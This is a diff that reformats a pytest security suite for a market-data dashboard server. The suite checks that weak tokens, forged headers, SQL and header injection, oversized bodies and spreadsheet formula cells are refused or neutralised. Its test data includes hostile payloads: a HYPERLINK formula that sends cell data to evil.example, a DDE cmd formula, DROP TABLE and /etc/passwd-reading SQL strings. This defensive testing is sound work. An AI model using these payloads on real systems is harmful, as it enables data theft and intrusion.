@@ -43,8 +43,17 @@ OTHER = "Ht3kP9sVw1QxM7rZc5LdN2yBf8GjUa4E6oXiK0mRq-T"
 AUTH = {"Authorization": f"Bearer {TOKEN}"}
 MAX_BODY = 4096
 # Formulas as they arrive from Kafka: the symbols of landed ticks.
-FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
-            " =1+1", "\uff1d1+1", "=cmd|' /C calc'!A0")
+FORMULAS = (
+    '=HYPERLINK("http://evil.example/?"&A1,"x")',
+    "+1+2",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    " =1+1",
+    "\uff1d1+1",
+    "=cmd|' /C calc'!A0",
+)
 
 ATTACK_DASHBOARD = """
 title = "Attack surface"
@@ -79,9 +88,23 @@ sql = "SELECT {n} AS n, {f} AS f"
 
 # Panel SQL whose placeholder cannot be bound as a value: refused when the file loads.
 MISPLACED = [
-    "SELECT '{q}'", "SELECT E'{q}'", "SELECT e'\\'{q}'", "SELECT U&'{q}'", 'SELECT "{q}"', 'SELECT U&"{q}"',
-    "SELECT 1 -- {q}", "SELECT /* {q} */ 1", "SELECT /* /* {q} */ */ 1", "SELECT $$ {q} $$", "SELECT $t$ {q} $t$",
-    "SELECT x{q}", "SELECT {q}x", "SELECT {q}{q}", "SELECT $q", "SELECT ?", "SELECT $1",
+    "SELECT '{q}'",
+    "SELECT E'{q}'",
+    "SELECT e'\\'{q}'",
+    "SELECT U&'{q}'",
+    'SELECT "{q}"',
+    'SELECT U&"{q}"',
+    "SELECT 1 -- {q}",
+    "SELECT /* {q} */ 1",
+    "SELECT /* /* {q} */ */ 1",
+    "SELECT $$ {q} $$",
+    "SELECT $t$ {q} $t$",
+    "SELECT x{q}",
+    "SELECT {q}x",
+    "SELECT {q}{q}",
+    "SELECT $q",
+    "SELECT ?",
+    "SELECT $1",
     "SELECT 'a' || '{window_start}'",
 ]
 
@@ -116,8 +139,9 @@ class _Capture(logging.Handler):
 
 @contextmanager
 def _serve(settings: Settings) -> Iterator[str]:
-    settings = settings.model_copy(update={"dashboard": settings.dashboard.model_copy(
-        update={"host": "127.0.0.1", "port": free_port()})})
+    settings = settings.model_copy(
+        update={"dashboard": settings.dashboard.model_copy(update={"host": "127.0.0.1", "port": free_port()})}
+    )
     server = build_server(settings, access_log=True)
     thread = threading.Thread(target=server.run, name="dashboard-attacks", daemon=True)
     thread.start()
@@ -138,8 +162,12 @@ def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
     dash = base / "dash"
     dash.mkdir()
     (dash / "attack.toml").write_text(ATTACK_DASHBOARD)
-    settings = load_settings(overrides={"lake": str(base / "lake"), "dashboard": {
-        "dashboards_dir": str(dash), "token": TOKEN, "max_request_bytes": MAX_BODY}})
+    settings = load_settings(
+        overrides={
+            "lake": str(base / "lake"),
+            "dashboard": {"dashboards_dir": str(dash), "token": TOKEN, "max_request_bytes": MAX_BODY},
+        }
+    )
     lake = TickLake(base / "lake", settings)
     lake.land(ticks(30))
     lake.land(ticks(len(FORMULAS), symbols=FORMULAS), partition=1)
@@ -187,14 +215,30 @@ def _pct(text: str, lower: bool = False) -> str:
 
 
 # --- 1. weak tokens and token files -----------------------------------------------------------------
-@pytest.mark.parametrize(("token", "error"), [
-    (" ", WeakToken), ("\t \n", WeakToken), ("", InsecureBind), ("s3cret-t0ken", WeakToken),
-    ("x" * 64, WeakToken), ("ab" * 32, WeakToken), ("0123456789" * 4, WeakToken), ("Password1!" * 5, WeakToken),
-    ("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKL", WeakToken), ("a" * 40 + "Zq9!", WeakToken),
-    ("1234567890" * 3 + "qwertyuiop", WeakToken), (TOKEN[:31], WeakToken), (TOKEN[:20] + " " + TOKEN[20:], WeakToken),
-    ("\u00fc" * 8 + TOKEN, WeakToken), (TOKEN + "\x00", WeakToken), ("abcd" * 8 + "efgh" * 8, WeakToken),
-    ("0000000000000000000000000000000000000000000000000000000000000001", WeakToken), ("x" * 2000, WeakToken),
-], ids=lambda v: repr(v)[:24] if isinstance(v, str) else v.__name__)
+@pytest.mark.parametrize(
+    ("token", "error"),
+    [
+        (" ", WeakToken),
+        ("\t \n", WeakToken),
+        ("", InsecureBind),
+        ("s3cret-t0ken", WeakToken),
+        ("x" * 64, WeakToken),
+        ("ab" * 32, WeakToken),
+        ("0123456789" * 4, WeakToken),
+        ("Password1!" * 5, WeakToken),
+        ("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKL", WeakToken),
+        ("a" * 40 + "Zq9!", WeakToken),
+        ("1234567890" * 3 + "qwertyuiop", WeakToken),
+        (TOKEN[:31], WeakToken),
+        (TOKEN[:20] + " " + TOKEN[20:], WeakToken),
+        ("\u00fc" * 8 + TOKEN, WeakToken),
+        (TOKEN + "\x00", WeakToken),
+        ("abcd" * 8 + "efgh" * 8, WeakToken),
+        ("0000000000000000000000000000000000000000000000000000000000000001", WeakToken),
+        ("x" * 2000, WeakToken),
+    ],
+    ids=lambda v: repr(v)[:24] if isinstance(v, str) else v.__name__,
+)
 def test_a_weak_token_is_refused_in_one_line(token: str, error: type[Exception]) -> None:
     settings = load_settings(overrides={"dashboard": {"host": "0.0.0.0", "token": token}})
     with pytest.raises(error) as err:
@@ -256,45 +300,52 @@ def test_a_private_token_file_is_accepted(tmp_path: Path, mode: int) -> None:
 
 
 # --- 2. token encodings: the key matches after one decoding; nothing reaches a log ------------------
-@pytest.mark.parametrize(("query", "status"), [
-    (f"token={TOKEN}", 303),
-    (f"%74oken={TOKEN}", 303),
-    (f"to%6Ben={TOKEN}", 303),
-    (f"%74%6F%6B%65%6E={TOKEN}", 303),
-    (f"%74%6f%6b%65%6e={TOKEN}", 303),
-    (f"token={_pct(TOKEN)}", 303),
-    (f"token={_pct(TOKEN, lower=True)}", 303),
-    (f"token={_pct(TOKEN[:1])}{TOKEN[1:]}", 303),
-    (f"x=1&token={TOKEN}&y=2", 303),
-    (f"token={TOKEN}+", 303),  # '+' is a space, stripped like any surrounding whitespace
-    (f"TOKEN={TOKEN}", 401),
-    (f"%54%4F%4B%45%4E={TOKEN}", 401),
-    (f"%2574oken={TOKEN}", 401),  # decoded once: the key is '%74oken', not 'token'
-    (f"token={quote(_pct(TOKEN))}", 401),  # decoded once: still percent-encoded
-    (f"token={TOKEN}&token={TOKEN}", 401),  # two tokens are ambiguous
-    (f"token={TOKEN}&%74oken={OTHER}", 401),
-    (f"x={TOKEN}", 401),
-    (f"token%3D{TOKEN}", 401),
-    (f"token={TOKEN[:-1]}", 401),
-    (f"token={TOKEN.replace('e', '%D0%B5', 1)}", 401),  # a Cyrillic homoglyph of 'e'
-    (f"x={_pct(TOKEN)}", 401),
-], ids=lambda v: str(v)[:28])
+@pytest.mark.parametrize(
+    ("query", "status"),
+    [
+        (f"token={TOKEN}", 303),
+        (f"%74oken={TOKEN}", 303),
+        (f"to%6Ben={TOKEN}", 303),
+        (f"%74%6F%6B%65%6E={TOKEN}", 303),
+        (f"%74%6f%6b%65%6e={TOKEN}", 303),
+        (f"token={_pct(TOKEN)}", 303),
+        (f"token={_pct(TOKEN, lower=True)}", 303),
+        (f"token={_pct(TOKEN[:1])}{TOKEN[1:]}", 303),
+        (f"x=1&token={TOKEN}&y=2", 303),
+        (f"token={TOKEN}+", 303),  # '+' is a space, stripped like any surrounding whitespace
+        (f"TOKEN={TOKEN}", 401),
+        (f"%54%4F%4B%45%4E={TOKEN}", 401),
+        (f"%2574oken={TOKEN}", 401),  # decoded once: the key is '%74oken', not 'token'
+        (f"token={quote(_pct(TOKEN))}", 401),  # decoded once: still percent-encoded
+        (f"token={TOKEN}&token={TOKEN}", 401),  # two tokens are ambiguous
+        (f"token={TOKEN}&%74oken={OTHER}", 401),
+        (f"x={TOKEN}", 401),
+        (f"token%3D{TOKEN}", 401),
+        (f"token={TOKEN[:-1]}", 401),
+        (f"token={TOKEN.replace('e', '%D0%B5', 1)}", 401),  # a Cyrillic homoglyph of 'e'
+        (f"x={_pct(TOKEN)}", 401),
+    ],
+    ids=lambda v: str(v)[:28],
+)
 def test_token_encodings_authenticate_only_canonically_and_never_log(served: Served, query: str, status: int) -> None:
     served.lines.clear()
     response = served.get(f"/pipeline?{query}")
     assert response.status_code == status, response.text
     if status == 303:
         assert TOKEN not in response.headers["location"] and response.headers["location"].startswith("/pipeline")
-        assert served.get("/api/health", headers={"Cookie": response.headers["set-cookie"].split(";")[0]}) \
-            .status_code == 200
+        assert (
+            served.get("/api/health", headers={"Cookie": response.headers["set-cookie"].split(";")[0]}).status_code
+            == 200
+        )
     else:
         _refused(response, 401, "access token")
     assert any("/pipeline?" in line for line in served.lines), served.lines  # the access log line is there
     _no_secret_in_logs(served, query.split("=", 1)[-1])
 
 
-@pytest.mark.parametrize("path", [f"/api/{TOKEN}", f"/api/{_pct(TOKEN)}", f"/{TOKEN}/x?y={TOKEN}",
-                                  f"/static/{quote(_pct(TOKEN))}"])
+@pytest.mark.parametrize(
+    "path", [f"/api/{TOKEN}", f"/api/{_pct(TOKEN)}", f"/{TOKEN}/x?y={TOKEN}", f"/static/{quote(_pct(TOKEN))}"]
+)
 def test_a_token_in_the_path_is_not_logged(served: Served, path: str) -> None:
     served.lines.clear()
     _refused(served.get(path), 401)
@@ -319,28 +370,32 @@ _COOKIE = hashlib.sha256(b"eventlake-dashboard:" + TOKEN.encode()).hexdigest()
 _OTHER_COOKIE = hashlib.sha256(b"eventlake-dashboard:" + OTHER.encode()).hexdigest()
 
 
-@pytest.mark.parametrize("headers", [
-    [],
-    [("Authorization", "Bearer wrong")],
-    [("Authorization", f"Basic {base64.b64encode(f'admin:{TOKEN}'.encode()).decode()}")],
-    [("Authorization", f"Bearer {TOKEN[:-1]}")],
-    [("Authorization", f"Bearer {TOKEN}x")],
-    [("Authorization", f"Token {TOKEN}")],
-    [("Authorization", TOKEN)],
-    [("Authorization", f"Bearer {TOKEN.lower()}")],
-    [("Authorization", f"Bearer {OTHER}")],
-    [("Authorization", f"Bearer {TOKEN}"), ("Authorization", "Bearer wrong")],
-    [("Authorization", "Bearer wrong"), ("Authorization", f"Bearer {TOKEN}")],
-    [("Cookie", f"eventlake_token={TOKEN}")],
-    [("Cookie", f"eventlake_token={_OTHER_COOKIE}")],
-    [("Cookie", f"eventlake_token={_COOKIE.upper()}")],
-    [("Cookie", f"Eventlake_Token={_COOKIE}")],
-    [("Cookie", f"eventlake_token={_COOKIE[:-1]}")],
-    [("Cookie", f"eventlake_token=\"{_COOKIE}x\"")],
-    [("X-Forwarded-For", "127.0.0.1"), ("X-Real-IP", "127.0.0.1"), ("Forwarded", "for=127.0.0.1")],
-    [("Host", "localhost"), ("Origin", "http://localhost")],
-    [("X-Eventlake-Token", TOKEN), ("Token", TOKEN)],
-], ids=lambda h: "+".join(f"{k}:{v[:14]}" for k, v in h) or "nothing")
+@pytest.mark.parametrize(
+    "headers",
+    [
+        [],
+        [("Authorization", "Bearer wrong")],
+        [("Authorization", f"Basic {base64.b64encode(f'admin:{TOKEN}'.encode()).decode()}")],
+        [("Authorization", f"Bearer {TOKEN[:-1]}")],
+        [("Authorization", f"Bearer {TOKEN}x")],
+        [("Authorization", f"Token {TOKEN}")],
+        [("Authorization", TOKEN)],
+        [("Authorization", f"Bearer {TOKEN.lower()}")],
+        [("Authorization", f"Bearer {OTHER}")],
+        [("Authorization", f"Bearer {TOKEN}"), ("Authorization", "Bearer wrong")],
+        [("Authorization", "Bearer wrong"), ("Authorization", f"Bearer {TOKEN}")],
+        [("Cookie", f"eventlake_token={TOKEN}")],
+        [("Cookie", f"eventlake_token={_OTHER_COOKIE}")],
+        [("Cookie", f"eventlake_token={_COOKIE.upper()}")],
+        [("Cookie", f"Eventlake_Token={_COOKIE}")],
+        [("Cookie", f"eventlake_token={_COOKIE[:-1]}")],
+        [("Cookie", f'eventlake_token="{_COOKIE}x"')],
+        [("X-Forwarded-For", "127.0.0.1"), ("X-Real-IP", "127.0.0.1"), ("Forwarded", "for=127.0.0.1")],
+        [("Host", "localhost"), ("Origin", "http://localhost")],
+        [("X-Eventlake-Token", TOKEN), ("Token", TOKEN)],
+    ],
+    ids=lambda h: "+".join(f"{k}:{v[:14]}" for k, v in h) or "nothing",
+)
 def test_forged_headers_and_cookies_are_refused(served: Served, headers: list[tuple[str, str]]) -> None:
     served.lines.clear()
     response = served.get("/api/health", headers=headers)
@@ -349,20 +404,48 @@ def test_forged_headers_and_cookies_are_refused(served: Served, headers: list[tu
     _no_secret_in_logs(served)
 
 
-@pytest.mark.parametrize("headers", [AUTH, {"Authorization": f"bearer   {TOKEN}"},
-                                     {"Cookie": f"eventlake_token={_COOKIE}"},
-                                     {"Cookie": f"a=1; eventlake_token={_COOKIE}; b=2"}])
+@pytest.mark.parametrize(
+    "headers",
+    [
+        AUTH,
+        {"Authorization": f"bearer   {TOKEN}"},
+        {"Cookie": f"eventlake_token={_COOKIE}"},
+        {"Cookie": f"a=1; eventlake_token={_COOKIE}; b=2"},
+    ],
+)
 def test_the_real_credentials_are_accepted(served: Served, headers: dict[str, str]) -> None:
     assert served.get("/api/health", headers=headers).json()["status"] == "ok"
 
 
 # --- 4. parameter injections ----------------------------------------------------------------------------
-@pytest.mark.parametrize("payload", [
-    "x' OR '1'='1", "'); DROP TABLE stock_ticks; --", "E'\\x27 OR 1=1 --", "\\' OR 1=1 --", "$$ || version() || $$",
-    "$t$ || current_setting('threads') || $t$", '" OR "a"="a', "*/ SELECT 1 /*", "-- ", "/*",
-    "' UNION SELECT path FROM eventlake.files --", "\u02bc OR 1=1 --", "\uff07 OR 1=1 --", "\u202e'; --",
-    "{q}", "$q", "?", "$1", "%27 OR 1=1", "x\r\nSet-Cookie: a=b", "\U0001f600'", "' || read_text('/etc/passwd') || '",
-], ids=lambda v: repr(v)[:20])
+@pytest.mark.parametrize(
+    "payload",
+    [
+        "x' OR '1'='1",
+        "'); DROP TABLE stock_ticks; --",
+        "E'\\x27 OR 1=1 --",
+        "\\' OR 1=1 --",
+        "$$ || version() || $$",
+        "$t$ || current_setting('threads') || $t$",
+        '" OR "a"="a',
+        "*/ SELECT 1 /*",
+        "-- ",
+        "/*",
+        "' UNION SELECT path FROM eventlake.files --",
+        "\u02bc OR 1=1 --",
+        "\uff07 OR 1=1 --",
+        "\u202e'; --",
+        "{q}",
+        "$q",
+        "?",
+        "$1",
+        "%27 OR 1=1",
+        "x\r\nSet-Cookie: a=b",
+        "\U0001f600'",
+        "' || read_text('/etc/passwd') || '",
+    ],
+    ids=lambda v: repr(v)[:20],
+)
 def test_a_free_text_value_comes_back_as_one_value(served: Served, payload: str) -> None:
     response = served.get(f"/api/panels/attack/echo?q={quote(payload, safe='')}", headers=AUTH)
     assert response.status_code == 200, response.text
@@ -370,23 +453,27 @@ def test_a_free_text_value_comes_back_as_one_value(served: Served, payload: str)
     assert body["error"] is None and body["rows"] == [[payload, len(payload)]]
 
 
-@pytest.mark.parametrize(("query", "fragment"), [
-    ("sym=AAPL%27%20OR%20%271%27%3D%271", "must be one of"),
-    ("sym=aapl", "must be one of"),
-    ("sym=AAPL%20", "must be one of"),
-    ("sym=%EF%BC%A1%EF%BC%A1%EF%BC%B0%EF%BC%AC", "must be one of"),  # full-width AAPL
-    ("sym=AAPL%E2%80%8B", "must be one of"),  # zero-width space
-    ("sym=AAPL%00", "NUL"),
-    ("q=a%00b", "NUL"),
-    ("q=" + "x" * 4097, "longer than 4096"),
-    ("q=a&q=b", "given more than once"),
-    ("q=a&%71=b", "given more than once"),
-    ("q=%FF", "UTF-8"),
-    ("q=%C0%A7", "UTF-8"),  # overlong encoding of '
-    ("nope=1", "has no parameter"),
-    ("Q=1", "has no parameter"),
-    ("&".join(f"q{i}=1" for i in range(70)), "more than 64 fields"),
-], ids=lambda v: v[:24])
+@pytest.mark.parametrize(
+    ("query", "fragment"),
+    [
+        ("sym=AAPL%27%20OR%20%271%27%3D%271", "must be one of"),
+        ("sym=aapl", "must be one of"),
+        ("sym=AAPL%20", "must be one of"),
+        ("sym=%EF%BC%A1%EF%BC%A1%EF%BC%B0%EF%BC%AC", "must be one of"),  # full-width AAPL
+        ("sym=AAPL%E2%80%8B", "must be one of"),  # zero-width space
+        ("sym=AAPL%00", "NUL"),
+        ("q=a%00b", "NUL"),
+        ("q=" + "x" * 4097, "longer than 4096"),
+        ("q=a&q=b", "given more than once"),
+        ("q=a&%71=b", "given more than once"),
+        ("q=%FF", "UTF-8"),
+        ("q=%C0%A7", "UTF-8"),  # overlong encoding of '
+        ("nope=1", "has no parameter"),
+        ("Q=1", "has no parameter"),
+        ("&".join(f"q{i}=1" for i in range(70)), "more than 64 fields"),
+    ],
+    ids=lambda v: v[:24],
+)
 def test_bad_parameter_values_are_refused(served: Served, query: str, fragment: str) -> None:
     for path in ("/api/panels/attack/echo", "/api/stream/attack"):
         _refused(served.get(f"{path}?{query}", headers=AUTH), 400, fragment)
@@ -397,24 +484,48 @@ def test_bounds_are_inclusive_and_keys_canonical(served: Served) -> None:
     assert served.get("/api/panels/attack/pick?sym=MSFT", headers=AUTH).json()["rows"] == [[10]]
 
 
-@pytest.mark.parametrize(("query", "fragment"), [
-    (f"n={10**30}", "signed 64-bit"), (f"n={-(2**63) - 1}", "signed 64-bit"), (f"n={2**63}", "signed 64-bit"),
-    ("n=" + "9" * 25, "signed 64-bit"), ("n=1_000", "must be int"), ("n=%D9%A1%D9%A2", "must be int"),
-    ("n=%205", "must be int"), ("n=0x10", "must be int"), ("n=1e3", "must be int"), ("n=5.0", "must be int"),
-    ("n=", "must be int"), ("n=%2B", "must be int"), ("n=1%00", "must be int"),
-    ("f=nan", "must be float"), ("f=inf", "must be float"), ("f=-inf", "must be float"),
-    ("f=Infinity", "must be float"), ("f=1e400", "finite"), ("f=-1e5000", "finite float"), ("f=1_0", "must be float"),
-    ("f=0x1p3", "must be float"), ("f=", "must be float"), ("f=%EF%BC%91", "must be float"),
-    ("f=" + "1" * 70, "must be float"),
-], ids=lambda v: v[:20])
+@pytest.mark.parametrize(
+    ("query", "fragment"),
+    [
+        (f"n={10**30}", "signed 64-bit"),
+        (f"n={-(2**63) - 1}", "signed 64-bit"),
+        (f"n={2**63}", "signed 64-bit"),
+        ("n=" + "9" * 25, "signed 64-bit"),
+        ("n=1_000", "must be int"),
+        ("n=%D9%A1%D9%A2", "must be int"),
+        ("n=%205", "must be int"),
+        ("n=0x10", "must be int"),
+        ("n=1e3", "must be int"),
+        ("n=5.0", "must be int"),
+        ("n=", "must be int"),
+        ("n=%2B", "must be int"),
+        ("n=1%00", "must be int"),
+        ("f=nan", "must be float"),
+        ("f=inf", "must be float"),
+        ("f=-inf", "must be float"),
+        ("f=Infinity", "must be float"),
+        ("f=1e400", "finite"),
+        ("f=-1e5000", "finite float"),
+        ("f=1_0", "must be float"),
+        ("f=0x1p3", "must be float"),
+        ("f=", "must be float"),
+        ("f=%EF%BC%91", "must be float"),
+        ("f=" + "1" * 70, "must be float"),
+    ],
+    ids=lambda v: v[:20],
+)
 def test_out_of_range_numbers_are_400_not_500(served: Served, query: str, fragment: str) -> None:
     _refused(served.get(f"/api/panels/attack/num?{query}", headers=AUTH), 400, fragment)
 
 
-@pytest.mark.parametrize(("query", "row"), [
-    (f"n={2**63 - 1}&f=-1.5", [2**63 - 1, -1.5]), (f"n={-(2**63)}&f=1e308", [-(2**63), 1e308]),
-    ("n=%2B7&f=.5", [7, 0.5]),
-])
+@pytest.mark.parametrize(
+    ("query", "row"),
+    [
+        (f"n={2**63 - 1}&f=-1.5", [2**63 - 1, -1.5]),
+        (f"n={-(2**63)}&f=1e308", [-(2**63), 1e308]),
+        ("n=%2B7&f=.5", [7, 0.5]),
+    ],
+)
 def test_numbers_at_the_bounds_are_accepted(served: Served, query: str, row: list[Any]) -> None:
     assert served.get(f"/api/panels/attack/num?{query}", headers=AUTH).json()["rows"] == [row]
 
@@ -448,26 +559,36 @@ def _chunks(total: int, size: int) -> Iterator[bytes]:
     yield b'"}'
 
 
-@pytest.mark.parametrize(("path", "kind"), [
-    ("/api/query", "declared"), ("/api/query.csv", "declared"), ("/api/query", "chunked"),
-    ("/api/query", "small-chunks"), ("/api/query.csv", "chunked"), ("/api/panels/attack/echo", "declared"),
-])
+@pytest.mark.parametrize(
+    ("path", "kind"),
+    [
+        ("/api/query", "declared"),
+        ("/api/query.csv", "declared"),
+        ("/api/query", "chunked"),
+        ("/api/query", "small-chunks"),
+        ("/api/query.csv", "chunked"),
+        ("/api/panels/attack/echo", "declared"),
+    ],
+)
 def test_an_oversized_body_is_413(served: Served, path: str, kind: str) -> None:
     with httpx.Client(base_url=served.url, timeout=20, headers=AUTH) as http:
         if kind == "declared":
             response = http.post(path, json={"sql": "SELECT 1 -- " + "x" * MAX_BODY})
         else:
             size = 1000 if kind == "chunked" else 64
-            response = http.post(path, content=_chunks(MAX_BODY + 500, size),
-                                 headers={"content-type": "application/json"})
+            response = http.post(
+                path, content=_chunks(MAX_BODY + 500, size), headers={"content-type": "application/json"}
+            )
     _refused(response, 413, f"request body larger than {MAX_BODY} bytes")
 
 
 def test_a_huge_declared_length_is_refused_before_any_body_arrives(served: Served) -> None:
     port = int(served.url.rsplit(":", 1)[1])
     with socket.create_connection(("127.0.0.1", port), timeout=5) as sock:
-        sock.sendall(b"POST /api/query HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
-                     b"Authorization: Bearer " + TOKEN.encode() + b"\r\nContent-Length: 1000000000000\r\n\r\n")
+        sock.sendall(
+            b"POST /api/query HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
+            b"Authorization: Bearer " + TOKEN.encode() + b"\r\nContent-Length: 1000000000000\r\n\r\n"
+        )
         answer = b""
         while b"}" not in answer:  # the JSON error ends the answer; no body was ever sent
             chunk = sock.recv(4096)
@@ -492,26 +613,63 @@ def _csv(served: Served, sql: str) -> list[list[str]]:
     return list(csv.reader(io.StringIO(response.text, newline="")))
 
 
-@pytest.mark.parametrize("cell", [
-    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "  @x", "\uff1d1+1", "\uff0b1", "\uff0d1",
-    "\uff20SUM(A1)", "=HYPERLINK(\"http://evil.example\")", "-", "+", "=", "-1.5.5", "-1,5", "+-1", "-inf",
-    "-0x10", "\t-1",
-], ids=lambda v: repr(v)[:16])
+@pytest.mark.parametrize(
+    "cell",
+    [
+        "=1+1",
+        "+1+1",
+        "-1+1",
+        "@SUM(A1)",
+        "\t=1",
+        "\r=1",
+        "\n=1",
+        " =1",
+        "  @x",
+        "\uff1d1+1",
+        "\uff0b1",
+        "\uff0d1",
+        "\uff20SUM(A1)",
+        '=HYPERLINK("http://evil.example")',
+        "-",
+        "+",
+        "=",
+        "-1.5.5",
+        "-1,5",
+        "+-1",
+        "-inf",
+        "-0x10",
+        "\t-1",
+    ],
+    ids=lambda v: repr(v)[:16],
+)
 def test_a_formula_cell_is_exported_as_text(served: Served, cell: str) -> None:
     assert _csv(served, f"SELECT {sql_literal(cell)} AS c") == [["c"], ["'" + cell]]
 
 
-@pytest.mark.parametrize(("expr", "shown"), [
-    ("-5", "-5"), ("'-1.5'", "-1.5"), ("'+3'", "+3"), ("'1e-9'", "1e-9"), ("-0.25", "-0.25"), ("'-.5'", "-.5"),
-    ("'AAPL'", "AAPL"), ("'a=b'", "a=b"), ("NULL", ""),
-])
+@pytest.mark.parametrize(
+    ("expr", "shown"),
+    [
+        ("-5", "-5"),
+        ("'-1.5'", "-1.5"),
+        ("'+3'", "+3"),
+        ("'1e-9'", "1e-9"),
+        ("-0.25", "-0.25"),
+        ("'-.5'", "-.5"),
+        ("'AAPL'", "AAPL"),
+        ("'a=b'", "a=b"),
+        ("NULL", ""),
+    ],
+)
 def test_numbers_and_plain_text_are_exported_unchanged(served: Served, expr: str, shown: str) -> None:
     assert _csv(served, f"SELECT {expr} AS c") == [["c"], [shown]]
 
 
 def test_formulas_landed_from_kafka_are_neutralised(served: Served) -> None:
-    rows = _csv(served, 'SELECT symbol, -volume AS "=neg" FROM stock_ticks WHERE symbol NOT IN '
-                        "('AAPL', 'MSFT', 'NVDA') ORDER BY volume")
+    rows = _csv(
+        served,
+        'SELECT symbol, -volume AS "=neg" FROM stock_ticks WHERE symbol NOT IN '
+        "('AAPL', 'MSFT', 'NVDA') ORDER BY volume",
+    )
     assert rows[0] == ["symbol", "'=neg"]
     assert rows[1:] == [["'" + f, str(-10 * (i + 1))] for i, f in enumerate(FORMULAS)]
 
